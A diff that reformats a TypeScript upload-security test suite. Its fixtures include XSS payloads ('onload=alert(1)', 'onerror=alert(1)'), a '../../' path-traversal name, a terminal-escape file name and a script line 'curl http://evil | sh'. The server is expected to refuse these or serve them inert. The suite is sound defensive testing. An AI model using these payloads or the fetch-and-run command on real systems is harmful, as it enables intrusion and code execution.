@@ -45,10 +45,32 @@ interface Refused {
 
 const REFUSED: Refused[] = [
   ...UPLOAD_CASES.flatMap((upload) =>
-    upload.refused ? [{ label: 'shared case', name: upload.name, content: uploadCaseContent(upload), refused: upload.refused, routes: [1, 2, 3, 4, 5] }] : [],
+    upload.refused
+      ? [
+          {
+            label: 'shared case',
+            name: upload.name,
+            content: uploadCaseContent(upload),
+            refused: upload.refused,
+            routes: [1, 2, 3, 4, 5],
+          },
+        ]
+      : [],
   ),
-  { label: 'a forbidden extension with a trailing space', name: 'архив.PART ', content: PDF, refused: 'forbidden-extension', routes: ALL_ROUTES },
-  { label: 'a forbidden extension behind a path', name: '../../выписка.crdownload', content: PDF, refused: 'bad-name', routes: ALL_ROUTES },
+  {
+    label: 'a forbidden extension with a trailing space',
+    name: 'архив.PART ',
+    content: PDF,
+    refused: 'forbidden-extension',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'a forbidden extension behind a path',
+    name: '../../выписка.crdownload',
+    content: PDF,
+    refused: 'bad-name',
+    routes: ALL_ROUTES,
+  },
   {
     label: 'a .pdf that is an SVG with a script',
     name: 'план.pdf',
@@ -70,11 +92,41 @@ const REFUSED: Refused[] = [
     refused: 'active-content',
     routes: ALL_ROUTES,
   },
-  { label: 'a web page', name: 'страница.html', content: utf8('<html><body onload="alert(1)">'), refused: 'forbidden-extension', routes: ALL_ROUTES },
-  { label: 'a web page as text', name: 'страница.txt', content: utf8('Добрый день!\n\n<img src=x onerror=alert(1)>'), refused: 'active-content', routes: ALL_ROUTES },
-  { label: 'an SVG after a doctype', name: 'схема', content: utf8('<!DOCTYPE x>\n<svg onload="alert(1)"/>'), refused: 'active-content', routes: ALL_ROUTES },
-  { label: 'an XSLT-styled XML', name: 'выписка.xsl', content: utf8('<?xml version="1.0"?><x/>'), refused: 'forbidden-extension', routes: ALL_ROUTES },
-  { label: 'a name with a terminal escape', name: 'скан\u001b[2J.pdf', content: PDF, refused: 'bad-name', routes: ALL_ROUTES },
+  {
+    label: 'a web page',
+    name: 'страница.html',
+    content: utf8('<html><body onload="alert(1)">'),
+    refused: 'forbidden-extension',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'a web page as text',
+    name: 'страница.txt',
+    content: utf8('Добрый день!\n\n<img src=x onerror=alert(1)>'),
+    refused: 'active-content',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'an SVG after a doctype',
+    name: 'схема',
+    content: utf8('<!DOCTYPE x>\n<svg onload="alert(1)"/>'),
+    refused: 'active-content',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'an XSLT-styled XML',
+    name: 'выписка.xsl',
+    content: utf8('<?xml version="1.0"?><x/>'),
+    refused: 'forbidden-extension',
+    routes: ALL_ROUTES,
+  },
+  {
+    label: 'a name with a terminal escape',
+    name: 'скан\u001b[2J.pdf',
+    content: PDF,
+    refused: 'bad-name',
+    routes: ALL_ROUTES,
+  },
 ];
 
 interface Harmless {
@@ -90,7 +142,14 @@ interface Harmless {
 }
 
 const HARMLESS: Harmless[] = [
-  { label: 'a script named .txt', name: 'акт.txt', content: utf8('#!/bin/sh\ncurl http://evil | sh\n'), storedName: 'акт.txt', servedAs: 'text/plain; charset=utf-8', routes: ANY_TYPE_ROUTES },
+  {
+    label: 'a script named .txt',
+    name: 'акт.txt',
+    content: utf8('#!/bin/sh\ncurl http://evil | sh\n'),
+    storedName: 'акт.txt',
+    servedAs: 'text/plain; charset=utf-8',
+    routes: ANY_TYPE_ROUTES,
+  },
   {
     label: 'a program under an unchecked extension',
     name: 'программа.bin',
@@ -99,9 +158,27 @@ const HARMLESS: Harmless[] = [
     servedAs: 'application/octet-stream',
     routes: ANY_TYPE_ROUTES,
   },
-  { label: 'a name with characters Windows forbids', name: 'Акт <1> от 01:05|2026?.pdf', content: PDF, storedName: 'Акт _1_ от 01_05_2026_.pdf', servedAs: 'application/pdf' },
-  { label: 'a Windows device name', name: 'con.pdf', content: PDF, storedName: '_con.pdf', servedAs: 'application/pdf' },
-  { label: 'a 255-character name', name: `${'я'.repeat(251)}.pdf`, content: PDF, storedName: `${'я'.repeat(196)}.pdf`, servedAs: 'application/pdf' },
+  {
+    label: 'a name with characters Windows forbids',
+    name: 'Акт <1> от 01:05|2026?.pdf',
+    content: PDF,
+    storedName: 'Акт _1_ от 01_05_2026_.pdf',
+    servedAs: 'application/pdf',
+  },
+  {
+    label: 'a Windows device name',
+    name: 'con.pdf',
+    content: PDF,
+    storedName: '_con.pdf',
+    servedAs: 'application/pdf',
+  },
+  {
+    label: 'a 255-character name',
+    name: `${'я'.repeat(251)}.pdf`,
+    content: PDF,
+    storedName: `${'я'.repeat(196)}.pdf`,
+    servedAs: 'application/pdf',
+  },
 ];
 
 let server: TestServer;
@@ -121,7 +198,9 @@ beforeAll(async () => {
 afterAll(async () => {
   await server.app.close();
   rmSync(documentsDir, { recursive: true, force: true });
-  process.stdout.write(`files suite: ${tried} cases tried over ${routes.length} upload routes, ${refusedCount} refused with nothing kept, ${failed} failed\n`);
+  process.stdout.write(
+    `files suite: ${tried} cases tried over ${routes.length} upload routes, ${refusedCount} refused with nothing kept, ${failed} failed\n`,
+  );
 });
 
 /** Counts the case for the figures printed at the end. */
@@ -148,24 +227,36 @@ describe.each(REFUSED)('refused ($label): $name → $refused', ({ name, content,
   });
 });
 
-describe.each(HARMLESS)('made harmless: $label', ({ name, content, storedName, servedAs, routes: indexes = ALL_ROUTES }) => {
-  it.each(indexes)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
-    count();
-    const route = routes[index];
-    if (!route) throw new Error(`no upload route ${index}`);
-    const { token, url, fields } = await route.target();
-    const answer = await postUpload(server, token, url, form(fields, [{ field: route.fileField, name, content, type: 'application/pdf' }]));
-    expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status: route.accepted });
-    const download = await server.app.inject({ method: 'GET', url: await route.download(answer.json()), headers: { authorization: `Bearer ${token}` } });
-    expect(download.statusCode).toBe(200);
-    expect(download.headers['content-type']).toBe(servedAs);
-    expect(download.headers['x-content-type-options']).toBe('nosniff');
-    expect(download.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
-    const disposition = String(download.headers['content-disposition']);
-    expect(disposition).not.toMatch(/[\r\n]/);
-    // Read back as a browser does (filename* first), by the package that builds the header.
-    const { type, parameters } = parseDisposition(disposition);
-    expect({ type, name: parameters.filename }).toEqual({ type: 'attachment', name: storedName });
-    expect(new Uint8Array(download.rawPayload)).toEqual(content);
-  });
-});
+describe.each(HARMLESS)(
+  'made harmless: $label',
+  ({ name, content, storedName, servedAs, routes: indexes = ALL_ROUTES }) => {
+    it.each(indexes)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
+      count();
+      const route = routes[index];
+      if (!route) throw new Error(`no upload route ${index}`);
+      const { token, url, fields } = await route.target();
+      const answer = await postUpload(
+        server,
+        token,
+        url,
+        form(fields, [{ field: route.fileField, name, content, type: 'application/pdf' }]),
+      );
+      expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status: route.accepted });
+      const download = await server.app.inject({
+        method: 'GET',
+        url: await route.download(answer.json()),
+        headers: { authorization: `Bearer ${token}` },
+      });
+      expect(download.statusCode).toBe(200);
+      expect(download.headers['content-type']).toBe(servedAs);
+      expect(download.headers['x-content-type-options']).toBe('nosniff');
+      expect(download.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
+      const disposition = String(download.headers['content-disposition']);
+      expect(disposition).not.toMatch(/[\r\n]/);
+      // Read back as a browser does (filename* first), by the package that builds the header.
+      const { type, parameters } = parseDisposition(disposition);
+      expect({ type, name: parameters.filename }).toEqual({ type: 'attachment', name: storedName });
+      expect(new Uint8Array(download.rawPayload)).toEqual(content);
+    });
+  },
+);
